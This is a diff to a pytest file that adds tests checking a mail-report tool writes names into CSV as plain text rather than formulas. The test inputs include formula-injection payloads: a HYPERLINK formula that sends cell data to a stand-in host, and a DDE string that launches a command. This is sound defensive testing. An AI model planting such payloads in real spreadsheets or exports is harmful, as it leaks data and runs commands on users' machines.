@@ -1,7 +1,11 @@
 """`mailer report` writes names read from mail (a manager's display name as a recruiter wrote it, an address)
-into an HTML page with inline script: each shows as text, never as markup, whatever it holds."""
+into an HTML page with inline script, and into CSV a spreadsheet opens: each shows as text, never as markup or a
+formula, whatever it holds."""
 
+import csv
 from datetime import datetime, timedelta, timezone
+import io
+import json
 from zoneinfo import ZoneInfo
 
 import pytest
@@ -37,3 +41,17 @@ def test_markup_in_a_name_read_from_mail_shows_as_text_in_the_report(tmp_path, p
 def test_a_template_expression_in_a_name_is_shown_not_evaluated(tmp_path):
     html = report_page(tmp_path, "{{ 7*7 }} {% if true %}x{% endif %}")
     assert html.count("{{ 7*7 }} {% if true %}x{% endif %}") >= 3 and ">49" not in html
+
+
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.test/?"&A1,"x")', "@SUM(1+1)*cmd|' /C calc'!A0",
+                                  "+1+1", "-2+3"])
+def test_a_name_that_looks_like_a_formula_is_plain_text_in_the_csv(tmp_path, name):
+    from mailer.report import rows
+    config = make_config(tmp_path)
+    records = [SubmissionRecord(manager="aaron@other.test", recruiter="rita@acme.test",
+                                submitted_at=MON + timedelta(hours=10), manager_name=name)]
+    report = build(records, [], MON, MON + timedelta(weeks=1), config.calendar_for, config.default_calendar,
+                   config.followups.steps[0].after)
+    [row] = list(csv.DictReader(io.StringIO(rows.to_csv(report))))
+    assert row["name"] == "'" + name and row["manager"] == "aaron@other.test"
+    assert json.loads(rows.to_json(report))["managers"][0]["name"] == name  # JSON keeps the value as read
